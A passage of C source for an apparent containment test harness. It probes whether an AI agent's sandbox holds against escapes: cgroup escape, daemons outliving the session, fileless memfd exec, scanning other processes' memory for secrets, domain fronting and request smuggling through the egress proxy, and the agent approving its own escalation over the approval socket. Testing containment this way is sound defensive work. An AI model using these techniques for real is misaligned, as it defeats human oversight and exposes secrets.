		if (syscall(SYS_io_uring_enter, u->fd, 0, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0 &&
		    errno != EINTR)
			return -errno;
	res = u->cqes[head & *u->cq_mask].res;
	__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int iouring_read(const char *path)
{
	struct io_uring_sqe sqe;
	struct uring u;
	char buf[16];
	int r, fd;

	r = uring_open(&u);
	if (r < 0)
		return verdict(-1, -r, "io_uring_setup");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (uintptr_t)path;
	sqe.open_flags = O_RDONLY;
	fd = uring_run(&u, &sqe);
	if (fd < 0)
		return verdict(-1, -fd, "io_uring openat");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.addr = (uintptr_t)buf;
	sqe.len = sizeof(buf);
	r = uring_run(&u, &sqe);
	return verdict(r, -r, r < 0 ? "io_uring read, after its openat succeeded" : "io_uring openat+read");
}

static int iouring_connect(const char *host, int port)
{
	struct sockaddr_storage ss;
	struct io_uring_sqe sqe;
	struct uring u;
	socklen_t len;
	int fam = inet_addr_of(host, port, &ss, &len), fd, r;

	if (fam < 0)
		return 2;
	fd = socket(fam, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return verdict(fd, errno, "socket");
	r = uring_open(&u);
	if (r < 0)
		return verdict(-1, -r, "io_uring_setup");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = fd;
	sqe.addr = (uintptr_t)&ss;
	sqe.off = len;          /* IORING_OP_CONNECT takes the address length here */
	r = uring_run(&u, &sqe);
	return verdict(r, -r, "io_uring connect");
}

/*
 * Executes FD (fexecve, or execveat(fd, "", AT_EMPTY_PATH)) in a child.  A
 * close-on-exec pipe tells an exec that happened (EOF) from one refused (the
 * child writes its errno); a breach is an exec that happened and exited 0.
 */
static int exec_fd_in_child(int fd, const char *argv0, bool fexec, const char *what)
{
	char *av[] = { (char *)argv0, NULL };
	int p[2], e = 0, st = 0;
	pid_t pid;
	ssize_t n;

	if (pipe2(p, O_CLOEXEC) < 0 || (pid = fork()) < 0)
		return verdict(-1, errno, "pipe or fork");
	if (pid == 0) {
		close(p[0]);
		if (fexec)
			fexecve(fd, av, environ);
		else
			syscall(SYS_execveat, fd, "", av, environ, AT_EMPTY_PATH);
		e = errno;
		(void)!write(p[1], &e, sizeof(e));
		_exit(99);
	}
	close(p[1]);
	n = read(p[0], &e, sizeof(e));
	waitpid(pid, &st, 0);
	if (n == sizeof(e))
		return verdict(-1, e, what);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
		return verdict(0, 0, what);
	if (WIFSIGNALED(st))
		return held("%s: the exec happened, then signal %d killed it", what, WTERMSIG(st));
	return held("%s: the exec happened, then it exited %d", what, WEXITSTATUS(st));
}

static int memfd_exec(void)
{
	char buf[65536];
	ssize_t n;
	int in, fd;

	fd = memfd_create("agent", MFD_CLOEXEC | MFD_EXEC);
	if (fd < 0 && errno == EINVAL)  /* a kernel before 6.3: executable by default */
		fd = memfd_create("agent", MFD_CLOEXEC);
	if (fd < 0)
		return verdict(fd, errno, "memfd_create");
	in = open("/bin/true", O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return verdict(in, errno, "open /bin/true to copy it");
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return verdict(-1, errno, "copy /bin/true into the memfd");
	if (n < 0)
		return verdict(-1, errno, "read /bin/true");
	close(in);
	return exec_fd_in_child(fd, "true", true, "fileless exec from a memfd");
}

static int execveat_empty(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return verdict(fd, errno, "open (O_RDONLY, then O_PATH)");
	return exec_fd_in_child(fd, path, false, "execveat(AT_EMPTY_PATH)");
}

/*
 * A daemon (double fork, setsid, stdio and every other descriptor closed)
 * that writes its pid to PIDFILE and sleeps SECONDS.  It only spawns: the
 * harness checks afterwards whether that pid outlived the session.  The
 * parent waits (a pipe's EOF) until the pid file is written.
 */
static int daemon_spawn(const char *pidfile, int secs)
{
	int p[2], e = 0;
	pid_t pid;

	if (pipe2(p, O_CLOEXEC) < 0 || (pid = fork()) < 0)
		return verdict(-1, errno, "pipe or fork");
	if (pid == 0) {
		int nul, fd;
		pid_t g;

		close(p[0]);
		if (setsid() < 0 || (g = fork()) < 0) {
			e = errno;
			(void)!write(p[1], &e, sizeof(e));
			_exit(1);
		}
		if (g > 0)
			_exit(0);
		(void)!chdir("/");
		nul = open("/dev/null", O_RDWR);
		for (int i = 0; i < 3; i++)
			if (nul < 0 || dup2(nul, i) < 0)
				close(i);
		fd = open(pidfile, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0 || dprintf(fd, "%d\n", (int)getpid()) < 0) {
			e = errno;
			(void)!write(p[1], &e, sizeof(e));
			_exit(1);
		}
		close(p[1]);    /* the parent's signal that the pid file is written */
		syscall(SYS_close_range, 3, ~0U, 0);
		sleep((unsigned)secs);
		_exit(0);
	}
	close(p[1]);
	waitpid(pid, NULL, 0);
	if (read(p[0], &e, sizeof(e)) == sizeof(e))
		return verdict(-1, e, "daemon: setsid, fork or its pid file");
	printf("contained: - (daemon spawned; the harness checks it dies with the session)\n");
	return 0;
}

/* The path of the own cgroup v2 ("0::PATH" in /proc/self/cgroup), or -errno. */
static int own_cgroup(char *buf, size_t len)
{
	char line[4096];
	FILE *f = fopen("/proc/self/cgroup", "re");

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, "0::", 3))
			continue;
		line[strcspn(line, "\n")] = '\0';
		snprintf(buf, len, "%s", line + 3);
		fclose(f);
		return 0;
	}
	fclose(f);
	return -ENOENT;
}

/* Where cgroup2 is mounted (/sys/fs/cgroup, or .../unified on a hybrid host), or -errno. */
static int cgroup2_mount(char *buf, size_t len)
{
	char line[4096], mnt[2048];
	FILE *f = fopen("/proc/self/mountinfo", "re");

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (!strstr(line, " - cgroup2 ") || sscanf(line, "%*s %*s %*s %*s %2047s", mnt) != 1)
			continue;
		snprintf(buf, len, "%s", mnt);
		fclose(f);
		return 0;
	}
	fclose(f);
	return -ENOENT;
}

/*
 * Moves itself to the root cgroup, then to the parent cgroup, by writing its
 * pid into their cgroup.procs: out of the session's cgroup is out of its
 * limits, of the kill that ends the session and of what the approval socket
 * trusts (approve.c reads the peer's cgroup).
 */
static int cgroup_escape(void)
{
	char mnt[2048], before[4096], now[4096], procs[2][6200], pid[16];
	const char *what = "";
	int r, err = 0;

	r = cgroup2_mount(mnt, sizeof(mnt));
	if (r < 0)
		return verdict(r, -r, "find the cgroup2 mount in /proc/self/mountinfo");
	r = own_cgroup(before, sizeof(before));
	if (r < 0)
		return verdict(r, -r, "read the 0:: line of /proc/self/cgroup");
	if (!strcmp(before, "/"))
		return held("already in the root cgroup: nothing to escape from");
	snprintf(pid, sizeof(pid), "%d", (int)getpid());
	snprintf(procs[0], sizeof(procs[0]), "%s/cgroup.procs", mnt);
	snprintf(procs[1], sizeof(procs[1]), "%s%.*s/cgroup.procs", mnt,
		 (int)(strrchr(before, '/') - before), before);
	for (int i = 0; i < 2; i++) {
		int fd = open(procs[i], O_WRONLY | O_CLOEXEC);

		if (fd < 0 || write(fd, pid, strlen(pid)) < 0) {
			err = errno;
			what = i ? "write the own pid to the parent cgroup's cgroup.procs"
				 : "write the own pid to the root cgroup's cgroup.procs";
			if (fd >= 0)
				close(fd);
			continue;
		}
		close(fd);
		if (own_cgroup(now, sizeof(now)) == 0 && strcmp(now, before))
			return breach("moved from cgroup %s to %s (via %s)", before, now, procs[i]);
	}
	if (err)
		return verdict(-1, err, what);
	return held("both writes accepted, still in cgroup %s", before);
}

/* Up to LEN bytes of a /proc file; the count, or -errno. */
static ssize_t slurp(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	size_t got = 0;
	ssize_t n = 0;

	if (fd < 0)
		return -errno;
	while (got < len && (n = read(fd, buf + got, len - got)) > 0)
		got += (size_t)n;
	if (n < 0 && !got) {
		n = -errno;
		close(fd);
		return n;
	}
	close(fd);
	return (ssize_t)got;
}

/*
 * Whether [LO, HI) of /proc/PID/mem (MEM) holds NEEDLE, reading through BUF
 * (BUFLEN bytes) and spending at most *BUDGET bytes; *READ set if any byte
 * came back.  Chunks overlap by the needle's length less one.
 */
static bool mem_has(int mem, unsigned long lo, unsigned long hi, const char *needle, char *buf,
		    size_t buflen, size_t *budget, bool *read_any)
{
	size_t nl = strlen(needle), keep = 0;

	for (unsigned long at = lo; at < hi && *budget;) {
		size_t want = buflen - keep;
		ssize_t n;

		if (want > hi - at)
			want = hi - at;
		if (want > *budget)
			want = *budget;
		n = pread(mem, buf + keep, want, (off_t)at);
		if (n <= 0)
			return false;
		*read_any = true;
		*budget -= (size_t)n;
		at += (unsigned long)n;
		if (memmem(buf, keep + (size_t)n, needle, nl))
			return true;
		keep += (size_t)n;
		if (keep > nl - 1) {
			memmove(buf, buf + keep - (nl - 1), nl - 1);
			keep = nl - 1;
		}
	}
	return false;
}

/*
 * Searches every visible process but itself for NEEDLE: environ, cmdline,
 * and the writable or anonymous private mappings through /proc/PID/mem (64
 * MiB per process).  `env:VAR` takes the needle from $VAR, so that it is on
 * no command line.
 */
static int find_secret(const char *arg)
{
	const char *needle = arg, *what[] = { "environ", "cmdline" };
	size_t buflen = 1 << 20;
	char *buf = malloc(buflen);
	int n_proc = 0, n_env = 0, n_mem = 0;
	struct dirent *e;
	DIR *d;

	if (!strncmp(arg, "env:", 4))
		needle = getenv(arg + 4);
	if (!needle || !*needle || !buf) {
		fprintf(stderr, "find-secret: no needle (%s)\n", arg);
		return 2;
	}
	d = opendir("/proc");
	if (!d)
		return verdict(-1, errno, "opendir /proc");
	while ((e = readdir(d))) {
		char p[64], line[4096], comm[32] = "";
		int pid = atoi(e->d_name), mem;
		size_t budget = 64u << 20;
		bool read_any = false;
		FILE *maps;

		if (pid <= 0 || pid == getpid())
			continue;
		n_proc++;
		snprintf(p, sizeof(p), "/proc/%d/comm", pid);
		if (slurp(p, comm, sizeof(comm) - 1) > 0)
			comm[strcspn(comm, "\n")] = '\0';
		for (int i = 0; i < 2; i++) {
			ssize_t n;

			snprintf(p, sizeof(p), "/proc/%d/%s", pid, what[i]);
			n = slurp(p, buf, buflen);
			if (n >= 0 && i == 0)
				n_env++;
			if (n > 0 && memmem(buf, (size_t)n, needle, strlen(needle)))
				return breach("%s found in %d/%s (%s)", arg, pid, what[i], comm);
		}
		snprintf(p, sizeof(p), "/proc/%d/maps", pid);
		maps = fopen(p, "re");
		if (!maps)
			continue;
		snprintf(p, sizeof(p), "/proc/%d/mem", pid);
		mem = open(p, O_RDONLY | O_CLOEXEC);
		while (mem >= 0 && budget && fgets(line, sizeof(line), maps)) {
			unsigned long lo, hi;
			char perms[8], *name;
			int off = 0;

			if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &off) < 3 || !off)
				continue;
			name = line + off;
			/* Secrets live in data, heap, stack and anonymous memory, not in code. */
			if (perms[0] != 'r' || perms[3] != 'p' || !strncmp(name, "[v", 2) ||
			    (perms[1] != 'w' && name[0] != '\n' && name[0] != '['))
				continue;
			if (mem_has(mem, lo, hi, needle, buf, buflen, &budget, &read_any)) {
				name[strcspn(name, "\n")] = '\0';
				return breach("%s found in %d/mem at %lx-%lx %s (%s)", arg, pid, lo, hi,
					      *name ? name : "[anon]", comm);
			}
		}
		n_mem += read_any;
		if (mem >= 0)
			close(mem);
		fclose(maps);
	}
	closedir(d);
	free(buf);
	return held("searched %d processes: environ of %d, mem of %d", n_proc, n_env, n_mem);
}

/*
 * Another process's memory through /proc/PID/mem: opened for writing (the
 * kernel's ptrace-attach check), else read 16 bytes of its first readable
 * mapping (the ptrace-read check of /proc/PID/maps and of mem).
 */
static int proc_mem(const char *pid)
{
	char p[64], line[4096], perms[8], buf[16], what[96];
	unsigned long lo = 0, hi;
	bool found = false;
	ssize_t n;
	FILE *maps;
	int fd;

	snprintf(p, sizeof(p), "/proc/%s/mem", pid);
	fd = open(p, O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		return breach("opened %s's memory for writing", pid);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return verdict(fd, errno, "open /proc/PID/mem");
	snprintf(p, sizeof(p), "/proc/%s/maps", pid);
	maps = fopen(p, "re");
	if (!maps)
		return verdict(-1, errno, "open /proc/PID/maps");
	while (!found && fgets(line, sizeof(line), maps))
		found = sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r';
	fclose(maps);
	if (!found)
		return held("no readable mapping in /proc/%s/maps", pid);
	n = pread(fd, buf, sizeof(buf), (off_t)lo);
	snprintf(what, sizeof(what), "read %s's memory", pid);
	return verdict(n == sizeof(buf) ? 0 : -1, n < 0 ? errno : EIO, what);
}

static int link_read(const char *target, const char *lnk, bool hard)
{
	char buf[64];
	ssize_t n = -1;
	int fd, e;

	if ((hard ? link(target, lnk) : symlink(target, lnk)) < 0)
		return verdict(-1, errno, hard ? "link" : "symlink");
	fd = open(lnk, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		n = read(fd, buf, sizeof(buf));
	e = errno;
	(void)unlink(lnk);
	if (n > 0)
		return breach("read %s through a %s", target, hard ? "hard link" : "symlink");
	if (n == 0)
		return held("%s through the link reads empty", target);
	return verdict(-1, e, hard ? "open+read through the hard link" : "open+read through the symlink");
}

/* A TCP connection to the egress broker on 127.0.0.1:PORT (5 s read timeout), or -errno. */
static int proxy_dial(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct timeval tv = { .tv_sec = 5 };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), e;

	if (fd < 0)
		return -errno;
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		e = errno;
		close(fd);
		return -e;
	}
	return fd;
}

/*
 * Reads a response head up to its blank line, byte by byte (nothing after it
 * is consumed); leaves its status line in BUF.  The status code, 0 if the
 * peer closed or answered no HTTP status, -errno on a failed read.
 */
static int read_status(int fd, char *buf, size_t len)
{
	size_t got = 0;
	int code = 0;

	while (got + 1 < len) {
		ssize_t n = recv(fd, buf + got, 1, 0);

		if (n < 0 && !got)
			return errno == EAGAIN ? -ETIMEDOUT : -errno;
		if (n <= 0)
			break;
		got++;
		if (got >= 4 && !memcmp(buf + got - 4, "\r\n\r\n", 4))
			break;
	}
	buf[got] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	if (sscanf(buf, "HTTP/%*d.%*d %d", &code) != 1)
		return 0;
	return code;
}

#define PUT8(v) (b[n++] = (unsigned char)(v))
#define PUT16(v) (PUT8((v) >> 8), PUT8(v))
#define PUTN(p, len) (memcpy(b + n, (p), (len)), n += (len))

/*
 * A ClientHello as a current client sends it, in a TLS 1.2-format record:
 * TLS 1.3 and 1.2 offered, server_name SNI, an x25519 key share of 32 random
 * bytes (any 32 bytes are a valid x25519 public key).  Its length in B (at
 * least 600 bytes); SNI at most 255 bytes.
 */
static size_t client_hello(unsigned char *b, const char *sni)
{
	static const uint16_t suites[] = { 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030 };
	static const uint16_t sigs[] = { 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601 };
	size_t n = 0, hs, ext, sl = strlen(sni);
	unsigned char rnd[96];

	if (getrandom(rnd, sizeof(rnd), 0) != sizeof(rnd))
		memset(rnd, 0x5a, sizeof(rnd));
	PUT8(0x16); PUT16(0x0301); PUT16(0);                    /* record; length below */
	hs = n;
	PUT8(1); PUT8(0); PUT16(0);                             /* ClientHello; length below */
	PUT16(0x0303);
	PUTN(rnd, 32);
	PUT8(32);                                               /* legacy session id */
	PUTN(rnd + 32, 32);
	PUT16(2 * sizeof(suites) / sizeof(suites[0]));
	for (size_t i = 0; i < sizeof(suites) / sizeof(suites[0]); i++)
		PUT16(suites[i]);
	PUT8(1); PUT8(0);                                       /* compression: null */
	ext = n;
	PUT16(0);                                               /* extensions; length below */
	PUT16(0x0000); PUT16(sl + 5); PUT16(sl + 3); PUT8(0); PUT16(sl);        /* server_name */
	PUTN(sni, sl);
	PUT16(0x000b); PUT16(2); PUT8(1); PUT8(0);              /* ec_point_formats */
	PUT16(0x000a); PUT16(6); PUT16(4); PUT16(0x001d); PUT16(0x0017);        /* supported_groups */
	PUT16(0x000d); PUT16(2 + sizeof(sigs)); PUT16(sizeof(sigs));            /* signature_algorithms */
	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		PUT16(sigs[i]);
	PUT16(0x002b); PUT16(5); PUT8(4); PUT16(0x0304); PUT16(0x0303);         /* supported_versions */
	PUT16(0x0033); PUT16(38); PUT16(36); PUT16(0x001d); PUT16(32);          /* key_share: x25519 */
	PUTN(rnd + 64, 32);
	b[ext] = (unsigned char)((n - ext - 2) >> 8);
	b[ext + 1] = (unsigned char)(n - ext - 2);
	b[hs + 2] = (unsigned char)((n - hs - 4) >> 8);
	b[hs + 3] = (unsigned char)(n - hs - 4);
	b[3] = (unsigned char)((n - 5) >> 8);
	b[4] = (unsigned char)(n - 5);
	return n;
}
#undef PUT8
#undef PUT16
#undef PUTN

/*
 * Domain fronting through the broker: CONNECT to HOST:PORT (allowed), then a
 * ClientHello naming SNI (another host).  A TLS record back (a handshake or
 * an alert from the server) means the broker relayed it.
 */
static int sni_mismatch(int pport, const char *host, const char *port, const char *sni)
{
	unsigned char hello[1024];
	char req[1024], st[4096], what[600];
	int fd = proxy_dial(pport), code;
	size_t len;
	ssize_t n;

	if (strlen(sni) > 255)
		return 2;
	if (fd < 0)
		return verdict(fd, -fd, "connect to the proxy");
	snprintf(req, sizeof(req), "CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n", host, port, host, port);
	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
		return verdict(-1, errno, "send CONNECT");
	code = read_status(fd, st, sizeof(st));
	if (code < 0)
		return verdict(code, -code, "read the CONNECT answer");
	if (code != 200)
		return held("CONNECT refused: %s", *st ? st : "no status line");
	len = client_hello(hello, sni);
	if (send(fd, hello, len, MSG_NOSIGNAL) < 0)
		return verdict(-1, errno, "send the ClientHello");
	n = recv(fd, hello, 1, 0);
	snprintf(what, sizeof(what), "the proxy relayed a ClientHello for %s to %s", sni, host);
	if (n == 1 && (hello[0] == 0x16 || hello[0] == 0x15))
		return breach("%s (answered with a TLS %s)", what, hello[0] == 0x16 ? "handshake" : "alert");
	if (n == 1)
		return held("the tunnel answered byte 0x%02x, not a TLS record", hello[0]);
	if (n == 0)
		return held("the proxy closed the tunnel after the ClientHello for %s", sni);
	return verdict(-1, errno == EAGAIN ? ETIMEDOUT : errno, "the ClientHello went unanswered");
}

/* CL.TE request smuggling: Content-Length and chunked together, which a proxy must refuse. */
static int smuggle(int pport, const char *host, const char *port)
{
	char req[1024], st[4096];
	int fd = proxy_dial(pport), code;

	if (fd < 0)
		return verdict(fd, -fd, "connect to the proxy");
	snprintf(req, sizeof(req),
		 "POST http://%s:%s/x HTTP/1.1\r\nHost: %s:%s\r\nContent-Length: 4\r\n"
		 "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", host, port, host, port);
	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
		return verdict(-1, errno, "send the request");
	code = read_status(fd, st, sizeof(st));
	if (code < 0)
		return verdict(code, -code, "read the answer");
	if (code == 0)
		return held("no HTTP status: %s", *st ? st : "closed");
	if (code >= 400 && code < 500)
		return held("%s", st);
	return breach("the proxy forwarded a request with Content-Length and chunked: %s", st);
}

/*
 * One request line to the approval socket, the one-line answer in REP; 0 or
 * -errno.  A refused peer is answered at once and closed, maybe before the
 * request is sent (EPIPE): the answer is still read.
 */
static int approve_ask(const char *sock, const char *req, char *rep, size_t len)
{
	struct sockaddr_un a;
	socklen_t l = unix_addr(sock, false, &a);
	size_t got = 0;
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), e = 0;

	if (fd < 0)
		return -errno;
	if (connect(fd, (struct sockaddr *)&a, l) < 0) {
		e = errno;
		close(fd);
		return -e;
	}
	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
		e = errno;
	while (got + 1 < len) {
		ssize_t n = recv(fd, rep + got, len - 1 - got, 0);

		if (n <= 0)
			break;
		got += (size_t)n;
		if (memchr(rep, '\n', got))
			break;
	}
	close(fd);
	rep[got] = '\0';
	rep[strcspn(rep, "\n")] = '\0';
	return got || !e ? 0 : -e;
}

/*
 * The agent approving its own escalation: speaks approve.sock the way
 * `cordon pending` and `cordon approve ID` do (one JSON line each way, one
 * request per connection).  Without ID, the first pending request.
 */
static int approve_self(const char *sock, const char *id_s)
{
	char rep[65536], req[128];
	const char *p;
	long id;
	int r;

	if (!id_s) {
		r = approve_ask(sock, "{\"cmd\":\"pending\"}", rep, sizeof(rep));
		if (r < 0)
			return verdict(r, -r, "connect to the approval socket");
		p = strstr(rep, "\"pending\":[");
		if (!p)
			return held("pending: the approval socket answered %.300s", *rep ? rep : "nothing");
		p = strstr(p, "\"id\":");
		if (!p)
			return held("nothing pending to approve");
		id_s = p + 5;
	}
	id = strtol(id_s, NULL, 10);
	snprintf(req, sizeof(req), "{\"cmd\":\"approve\",\"id\":%ld,\"session\":false}", id);
	r = approve_ask(sock, req, rep, sizeof(rep));
	if (r < 0)
		return verdict(r, -r, "connect to the approval socket");
	if (strstr(rep, "\"ok\":true"))
		return breach("the approval socket approved request %ld (%.200s)", id, rep);
	return held("approve %ld: the approval socket answered %.300s", id, *rep ? rep : "nothing");
}

/*
 * deep-dirs DIR N: a chain of N nested directories below DIR, made one
 * level at a time (no path grows past a component).  Aimed at whoever
 * removes the agent's files as root afterwards (the home layer at the
 * session's end, the reaper): a removal that recurses, one open directory
 * and one stack frame a level, runs out of descriptors or stack.
 */
static int deep_dirs(const char *dir, long n)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC), next;
	long i;

	if (fd < 0)
		return verdict(-1, errno, "open the top of the chain");
	for (i = 0; i < n; i++) {
		if (mkdirat(fd, "d", 0700) < 0 && errno != EEXIST)
			break;
		next = openat(fd, "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		close(fd);
		if (next < 0)
			break;
		fd = next;
	}
	if (fd >= 0)
		close(fd);
	printf("made %ld of %ld levels below %s\n", i, n, dir);
	return 0;
}

/*
 * The agent stating the human's intent: `cordon intent SENTENCE` spoken on
 * approve.sock.  An intent approves every held request it covers, now and
 * for its lifetime, so one stated by the agent is a standing self-approval.
 */
static int intent_self(const char *sock, const char *sentence)
{
	char rep[4096], req[1024], *q = req;
	int r;

	q += snprintf(q, 64, "{\"cmd\":\"intent\",\"sentence\":\"");
	for (const char *c = sentence; *c && q < req + sizeof(req) - 8; c++)
		if (*c >= 0x20 && *c != '"' && *c != '\\')
			*q++ = *c;
	snprintf(q, 8, "\"}");
	r = approve_ask(sock, req, rep, sizeof(rep));
	if (r < 0)
		return verdict(r, -r, "connect to the approval socket");
	if (strstr(rep, "\"ok\":true") || strstr(rep, "\"ok\": true"))
		return breach("the approval socket took the agent's intent (%.200s)", rep);
	return held("intent: the approval socket answered %.300s", *rep ? rep : "nothing");
}

/*
 * The host's world, reached by the names a session shared with it (the
 * classes userspace/session/world.h closes).  Each tries every member it is given
 * and reports the first that got through.
 */
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <linux/keyctl.h>
#include <linux/sched.h>

/* host-paths PATH...: connect to (sockets) or read (files) any of them. */
static int host_paths(int n, char **paths)
{
	int last = ENOENT;

	for (int i = 0; i < n; i++) {
		struct stat st;
		int fd, r;

		if (stat(paths[i], &st) < 0) {
			last = errno;
			continue;
		}
		if (S_ISSOCK(st.st_mode)) {
			struct sockaddr_un un = { .sun_family = AF_UNIX };

			snprintf(un.sun_path, sizeof(un.sun_path), "%s", paths[i]);
			fd = socket(AF_UNIX, SOCK_STREAM, 0);
			r = fd < 0 ? -1 : connect(fd, (struct sockaddr *)&un, sizeof(un));
		} else {
			char c;

			fd = open(paths[i], S_ISCHR(st.st_mode) ? O_WRONLY | O_NOCTTY : O_RDONLY);
			r = fd < 0 ? -1 : S_ISCHR(st.st_mode) ? 0 : (int)read(fd, &c, 1);
		}
		if (r >= 0) {
			printf("BREACH: reached %s\n", paths[i]);
			return 1;
		}
		last = errno;
	}
	return verdict(-1, last, "every host path named");
}

/* host-procs PID: name, read and steer a host process by its pid. */
static int host_procs(pid_t pid)
{
	char p[64], c;
	int fd, r, last = 0;
	struct rlimit rl = { 1, 1 };

	snprintf(p, sizeof(p), "/proc/%d/cmdline", (int)pid);
	fd = open(p, O_RDONLY);
	if (fd >= 0 && read(fd, &c, 1) == 1) {
		printf("BREACH: read %s\n", p);
		return 1;
	}
	last = errno;
#define TRY(call, what) do { r = (call); if (r == 0) { printf("BREACH: %s\n", what); return 1; } \
			     last = errno; } while (0)
	TRY(setpriority(PRIO_PROCESS, (id_t)pid, 19), "setpriority on a host process");
	TRY((int)syscall(SYS_prlimit64, pid, RLIMIT_NOFILE, &rl, NULL), "prlimit on a host process");
	TRY((int)syscall(SYS_ioprio_set, 1, pid, (3 << 13) | 7), "ioprio_set on a host process");
	{
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(0, &set);
		TRY(sched_setaffinity(pid, sizeof(set), &set), "sched_setaffinity on a host process");
	}
	/* F_SETOWN + F_SETSIG + O_ASYNC: the kernel signals the owner on I/O. */
	{
		int sp[2];

		if (socketpair(AF_UNIX, SOCK_STREAM, 0, sp) == 0 &&
		    fcntl(sp[0], F_SETOWN, pid) == 0 && fcntl(sp[0], F_SETSIG, SIGKILL) == 0 &&
		    fcntl(sp[0], F_SETFL, O_ASYNC) == 0) {
			(void)!write(sp[1], "x", 1);
			usleep(100000);
			printf("BREACH: F_SETOWN took host pid %d (SIGKILL on I/O)\n", (int)pid);
			return 1;
		}
		last = errno;
	}
#undef TRY
	return verdict(-1, last, "a host process by its pid");
}

/* sysv KEY SHMID MSQID: a host's shared memory segment and message queue. */
static int sysv(int key, int shmid, int msqid)
{
	void *m;
	int id;

	id = shmget(key, 0, 0);
	if (id >= 0 || (m = shmat(shmid, NULL, SHM_RDONLY)) != (void *)-1) {
		printf("BREACH: the host's shared memory segment (key %d)\n", key);
		return 1;
	}
	(void)m;
	if (msgget(key, 0) >= 0 || msgctl(msqid, IPC_STAT, &(struct msqid_ds){ 0 }) == 0) {
		printf("BREACH: the host's message queue (key %d)\n", key);
		return 1;
	}
	return verdict(-1, errno, "SysV IPC of the host");
}

/* keyring: the kernel keyrings (user, session), listed or added to. */
static int keyring(void)
{
	long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);

	if (r >= 0) {
		printf("BREACH: the user keyring (id %ld)\n", r);
		return 1;
	}
	r = syscall(SYS_add_key, "user", "redteam", "x", 1, KEY_SPEC_SESSION_KEYRING);
	if (r >= 0) {
		printf("BREACH: add_key to the session keyring\n");
		return 1;
	}
	return verdict(-1, errno, "kernel keyrings");
}

/* fds MARK: any inherited descriptor above 2 that reads MARK. */
static int inherited_fds(const char *mark)
{
	for (int fd = 3; fd < 1024; fd++) {
		char buf[256];
		ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

		if (n > 0) {
			buf[n] = '\0';
			if (strstr(buf, mark)) {
				printf("BREACH: descriptor %d reads the invoker's file\n", fd);
				return 1;
			}
		}
	}
	return held("no inherited descriptor above 2 reads it");
}

/* clone3-cgroup DIR: a child born in another cgroup (out of the session). */
static int clone3_cgroup(const char *dir)
{
	struct clone_args ca = { .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD };
	int fd = open(dir, O_RDONLY | O_DIRECTORY);
	long pid;

	if (fd < 0)
		return verdict(-1, errno, "open the target cgroup");
	ca.cgroup = (uint64_t)fd;
	pid = syscall(SYS_clone3, &ca, sizeof(ca));
	if (pid == 0)
		_exit(0);
	if (pid > 0) {
		waitpid((pid_t)pid, NULL, 0);
		printf("BREACH: clone3 put a child in %s\n", dir);
		return 1;
	}
	return verdict(-1, errno, "clone3(CLONE_INTO_CGROUP)");
}

/* pty-hold FILE: hold a pseudo-terminal of this uid open, its path in FILE (a host terminal). */
static int pty_hold(const char *file)
{
	int m = posix_openpt(O_RDWR | O_NOCTTY);
	FILE *f;

	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 || !(f = fopen(file, "w")))
		return 2;
	fprintf(f, "%s\n", ptsname(m));
	fclose(f);
	pause();
	return 0;
}

/* sysv-make FILE: a host segment and queue any uid may use; "KEY SHMID MSQID" in FILE. */
static int sysv_make(const char *file)
{
	int key = 0x5eed0000 | (getpid() & 0xffff);
	int shm = shmget(key, 4096, IPC_CREAT | 0666), msq = msgget(key, IPC_CREAT | 0666);
	FILE *f = fopen(file, "w");

	if (shm < 0 || msq < 0 || !f)
		return 2;
